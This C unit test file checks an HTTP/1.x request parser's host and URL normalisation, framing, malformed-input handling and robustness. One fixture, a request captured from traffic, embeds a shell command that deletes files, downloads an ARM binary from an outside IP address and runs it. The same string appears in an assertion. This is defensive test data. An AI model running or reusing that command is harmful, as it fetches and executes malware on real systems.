/* test_http.c - unit tests of the HTTP/1.x request parser (proto_http.c).
 *
 * Why it exists: Host and URL feed host, domain and URL indicators, so
 * their normalisation (case, port, trailing dot, absolute-form targets) must
 * be exact, and the parser must survive whatever a client or an attacker
 * sends first on port 80. Real requests come from the shared captures
 * (hosts as in their tshark truth files, which keep the raw Host value);
 * every prefix and a byte-mutation sweep are parsed from exact-size heap
 * copies so ASan sees any read past the end.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "proto_http.h"

/* http-qinq.pcap: wget fetching from bro.org. */
static const char k_qinq[] =
    /* request line */
    "GET /download/CHANGES.bro-aux.txt HTTP/1.1\r\n"
    /* headers: Host third */
    "User-Agent: Wget/1.14 (darwin12.2.0)\r\n"
    "Accept: */*\r\n"
    "Host: bro.org\r\n"
    "Connection: Keep-Alive\r\n"
    /* end of headers */
    "\r\n";

/* http-ipv6-bsd-null.pcap: curl to an IPv6 literal with a port. */
static const char k_ipv6[] =
    /* request line */
    "GET / HTTP/1.1\r\n"
    /* headers */
    "Host: [::1]:8000\r\n"
    "User-Agent: curl/7.54.0\r\n"
    "Accept: */*\r\n"
    /* end of headers */
    "\r\n";

/* erspan-gre-http.pcap: an exploit with raw spaces in its target. */
static const char k_exploit[] =
    /* request line: target with a space, version last */
    "GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm HTTP/1.1\r\n"
    /* headers: Host with the default port */
    "User-Agent: Hello, world\r\n"
    "Host: 127.0.0.1:80\r\n"
    "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8\r\n"
    "Connection: keep-alive\r\n"
    /* end of headers */
    "\r\n";

static pk_parse_result parse_copy(const void *in, size_t n, pk_http_request *rq,
                                  pk_http_stats *st) {
    uint8_t *buf = malloc(n ? n : 1);
    assert_non_null(buf);
    if (n) memcpy(buf, in, n);
    pk_parse_result r = pk_http_parse_request(buf, n, rq, st);
    free(buf);
    return r;
}

static pk_parse_result parse_str(const char *s, pk_http_request *rq, pk_http_stats *st) {
    return parse_copy(s, strlen(s), rq, st);
}

static void expect(const char *req, const char *host, const char *url) {
    pk_http_request rq;
    pk_http_stats st = {0};
    assert_int_equal(parse_str(req, &rq, &st), PK_PARSE_OK);
    assert_int_equal(rq.has_host, host != NULL);
    assert_string_equal(rq.host, host ? host : "");
    assert_int_equal(rq.host_len, strlen(rq.host));
    assert_string_equal(rq.url, url);
    assert_int_equal(rq.url_len, strlen(url));
    assert_false(rq.url_truncated);
    assert_int_equal(st.requests, 1);
}

static void test_real_requests(void **state) {
    (void)state;
    expect(k_qinq, "bro.org", "http://bro.org/download/CHANGES.bro-aux.txt");
    expect(k_ipv6, "::1", "http://[::1]:8000/");
    expect(k_exploit, "127.0.0.1",
           "http://127.0.0.1/shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm");
    pk_http_request rq;
    pk_http_stats st = {0};
    assert_int_equal(parse_str(k_qinq, &rq, &st), PK_PARSE_OK);
    assert_string_equal(rq.method, "GET");
}

static void test_every_prefix(void **state) {
    (void)state;
    const char *fx[] = {k_qinq, k_ipv6, k_exploit};
    for (size_t f = 0; f < sizeof fx / sizeof fx[0]; f++) {
        for (size_t n = 0; n < strlen(fx[f]); n++) {
            pk_http_request rq;
            pk_http_stats st = {0};
            assert_int_equal(parse_copy(fx[f], n, &rq, &st), PK_PARSE_NEED_MORE);
        }
    }
}

static void test_host_normalised(void **state) {
    (void)state;
    /* request line; Host: spaces, upper case, trailing dot, port 80 */
    expect("GET /P?q=1 HTTP/1.1\r\nhOsT:   WWW.Example.COM.:80  \r\n\r\n",
           "www.example.com", "http://www.example.com/P?q=1");
    /* request line; Host with a non-default port; bare LF line ends */
    expect("POST /a HTTP/1.0\nHost: api.example:8080\nX: y\n\n",
           "api.example", "http://api.example:8080/a");
    /* two Host headers: the first wins */
    expect("GET / HTTP/1.1\r\nHost: one.example\r\nHost: two.example\r\n\r\n",
           "one.example", "http://one.example/");
    /* folded header line, header without a value */
    expect("GET / HTTP/1.1\r\nX-A: 1\r\n  continued\r\nX-Empty:\r\nHost: h\r\n\r\n",
           "h", "http://h/");
}

static void test_absolute_form(void **state) {
    (void)state;
    /* absolute-form target, no Host: scheme and authority lower-cased */
    expect("GET HTTP://Evil.Example:8080/A/B?C HTTP/1.1\r\n\r\n",
           "evil.example", "http://evil.example:8080/A/B?C");
    /* absolute-form with a Host header: the url as sent, host from Host */
    expect("GET http://proxy.example/x HTTP/1.1\r\nHost: other.example\r\n\r\n",
           "other.example", "http://proxy.example/x");
    /* CONNECT: authority-form gives the host, no url */
    expect("CONNECT Tunnel.Example:443 HTTP/1.1\r\n\r\n", "tunnel.example", "");
    /* OPTIONS * */
    expect("OPTIONS * HTTP/1.1\r\nHost: h.example\r\n\r\n", "h.example", "");
    /* WebDAV method */
    expect("PROPFIND /dav/ HTTP/1.1\r\nHost: dav.example\r\n\r\n",
           "dav.example", "http://dav.example/dav/");
}

static void test_no_host(void **state) {
    (void)state;
    pk_http_request rq;
    pk_http_stats st = {0};
    assert_int_equal(parse_str("GET /x HTTP/1.0\r\n\r\n", &rq, &st), PK_PARSE_OK);
    assert_false(rq.has_host);
    assert_string_equal(rq.url, "");
    assert_int_equal(st.no_host, 1);
    /* Host values that are not a host: counted, not kept */
    static const char *bad[] = {
        "GET / HTTP/1.1\r\nHost: user@evil.example\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: a.example:99999\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: ::1\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: [::1\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: a\x01" "b\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: .\r\n\r\n",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        pk_http_stats s2 = {0};
        assert_int_equal(parse_str(bad[i], &rq, &s2), PK_PARSE_OK);
        assert_false(rq.has_host);
        assert_int_equal(s2.no_host, 1);
    }
}

/* Framing for keep-alive: header length, Content-Length, chunked. */
static void test_framing(void **state) {
    (void)state;
    pk_http_request rq;
    pk_http_stats st = {0};
    assert_int_equal(parse_str(k_qinq, &rq, &st), PK_PARSE_OK);
    assert_int_equal(rq.header_len, strlen(k_qinq));
    assert_int_equal(rq.content_length, 0);
    assert_false(rq.chunked);
    /* request line; headers with Content-Length 5; blank line; body */
    static const char post[] = "POST /f HTTP/1.1\r\nHost: h\r\ncontent-length:  5 \r\n\r\nhello";
    assert_int_equal(parse_str(post, &rq, &st), PK_PARSE_OK);
    assert_int_equal(rq.header_len, strlen(post) - 5);
    assert_int_equal(rq.content_length, 5);
    /* Transfer-Encoding ending in chunked */
    assert_int_equal(parse_str("POST / HTTP/1.1\r\nTransfer-Encoding: gzip, Chunked\r\n\r\n",
                               &rq, &st), PK_PARSE_OK);
    assert_true(rq.chunked);
    /* a Content-Length that is not a number: body unknowable, counted */
    pk_http_stats s2 = {0};
    assert_int_equal(parse_str("POST / HTTP/1.1\r\nContent-Length: 5x\r\n\r\n", &rq, &s2),
                     PK_PARSE_OK);
    assert_true(rq.content_length == UINT64_MAX);
    assert_int_equal(s2.malformed_header, 1);
}

static void test_not_mine_and_need_more(void **state) {
    (void)state;
    pk_http_request rq;
    pk_http_stats st = {0};
    assert_int_equal(parse_str("HELLO / HTTP/1.1\r\n\r\n", &rq, &st), PK_PARSE_NOT_MINE);
    assert_int_equal(parse_str("GETX / HTTP/1.1\r\n\r\n", &rq, &st), PK_PARSE_NOT_MINE);
    assert_int_equal(parse_str("get / HTTP/1.1\r\n\r\n", &rq, &st), PK_PARSE_NOT_MINE);
    assert_int_equal(parse_str("\x16\x03\x01", &rq, &st), PK_PARSE_NOT_MINE);
    assert_int_equal(parse_str(" GET /", &rq, &st), PK_PARSE_NOT_MINE);
    assert_int_equal(parse_copy("GET\0 / HTTP/1.1\r\n\r\n", 20, &rq, &st),
                     PK_PARSE_NOT_MINE);              /* NUL in the method */
    assert_int_equal(parse_str("GE", &rq, &st), PK_PARSE_NEED_MORE);
    assert_int_equal(parse_str("PROPF", &rq, &st), PK_PARSE_NEED_MORE);
    assert_int_equal(parse_str("GET / HTTP/1.1\r\nHost: a", &rq, &st), PK_PARSE_NEED_MORE);
    assert_int_equal(st.requests + st.malformed_request_line, 0);
}

static void test_malformed_request_line(void **state) {
    (void)state;
    static const char *bad[] = {
        "GET / HTTP/2.0\r\n\r\n",          /* not HTTP/1.x */
        "GET /\r\n\r\n",                   /* HTTP/0.9 */
        "GET  HTTP/1.1\r\n\r\n",           /* empty target */
        "GET /a\x01 HTTP/1.1\r\n\r\n",     /* control byte in the target */
        "GET a/b HTTP/1.1\r\n\r\n",        /* no known target form */
        "GET / HTTP/1.1 \r\n\r\n",         /* nothing after the last space */
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        pk_http_request rq;
        pk_http_stats st = {0};
        assert_int_equal(parse_str(bad[i], &rq, &st), PK_PARSE_MALFORMED);
        assert_int_equal(st.malformed_request_line, 1);
    }
}

static void test_overlong(void **state) {
    (void)state;
    static char req[PK_HTTP_MAX_HEADER * 2];
    pk_http_request rq;
    pk_http_stats st = {0};
    /* target of 6000 bytes: url capped at PK_HTTP_URL_MAX, flagged, counted */
    size_t o = (size_t)sprintf(req, "GET /");
    memset(req + o, 'a', 6000);
    o += 6000;
    o += (size_t)sprintf(req + o, " HTTP/1.1\r\nHost: long.example\r\n\r\n");
    assert_int_equal(parse_copy(req, o, &rq, &st), PK_PARSE_OK);
    assert_true(rq.url_truncated);
    assert_int_equal(rq.url_len, PK_HTTP_URL_MAX);
    assert_int_equal(strlen(rq.url), PK_HTTP_URL_MAX);
    assert_memory_equal(rq.url, "http://long.example/aaa", 23);
    assert_int_equal(st.url_truncated, 1);
    /* headers past the cap without an end: parsed up to the cap, flagged */
    o = (size_t)sprintf(req, "GET / HTTP/1.1\r\nHost: big.example\r\n");
    while (o < sizeof req - 32) o += (size_t)sprintf(req + o, "X-Pad: 0123456789\r\n");
    assert_int_equal(parse_copy(req, o, &rq, &st), PK_PARSE_OK);
    assert_string_equal(rq.host, "big.example");
    assert_int_equal(st.too_large, 1);
    assert_int_equal(rq.header_len, PK_HTTP_MAX_HEADER);
    assert_true(rq.content_length == UINT64_MAX);
    /* a request line longer than the cap */
    memcpy(req, "GET /", 5);
    memset(req + 5, 'b', sizeof req - 5);
    assert_int_equal(parse_copy(req, sizeof req, &rq, &st), PK_PARSE_MALFORMED);
    assert_int_equal(st.too_large, 2);
}

/* Every byte replaced by a few values: no overread, strings well formed. */
static void test_mutations(void **state) {
    (void)state;
    static const uint8_t vals[] = {0x00, ' ', ':', '\n', '[', 0xff};
    uint8_t b[sizeof k_ipv6 - 1];
    for (size_t i = 0; i < sizeof b; i++) {
        for (size_t v = 0; v < sizeof vals; v++) {
            memcpy(b, k_ipv6, sizeof b);
            b[i] = vals[v];
            pk_http_request rq;
            pk_http_stats st = {0};
            if (parse_copy(b, sizeof b, &rq, &st) != PK_PARSE_OK) continue;
            assert_int_equal(strlen(rq.host), rq.host_len);
            assert_int_equal(strlen(rq.url), rq.url_len);
        }
    }
}

typedef struct seen { int n; uint64_t requests; } seen;

static void counter_cb(void *ctx, const char *name, uint64_t value) {
    seen *s = ctx;
    s->n++;
    assert_memory_equal(name, "http.", 5);
    if (strcmp(name, "http.requests") == 0) s->requests = value;
}

static void test_counters(void **state) {
    (void)state;
    pk_http_request rq;
    pk_http_stats st = {0};
    parse_str(k_qinq, &rq, &st);
    seen s = {0, 0};
    pk_http_counters(&st, counter_cb, &s);
    assert_int_equal(s.n, 6);
    assert_int_equal(s.requests, 1);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_real_requests),
        cmocka_unit_test(test_every_prefix),
        cmocka_unit_test(test_host_normalised),
        cmocka_unit_test(test_absolute_form),
        cmocka_unit_test(test_no_host),
        cmocka_unit_test(test_framing),
        cmocka_unit_test(test_not_mine_and_need_more),
        cmocka_unit_test(test_malformed_request_line),
        cmocka_unit_test(test_overlong),
        cmocka_unit_test(test_mutations),
        cmocka_unit_test(test_counters),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
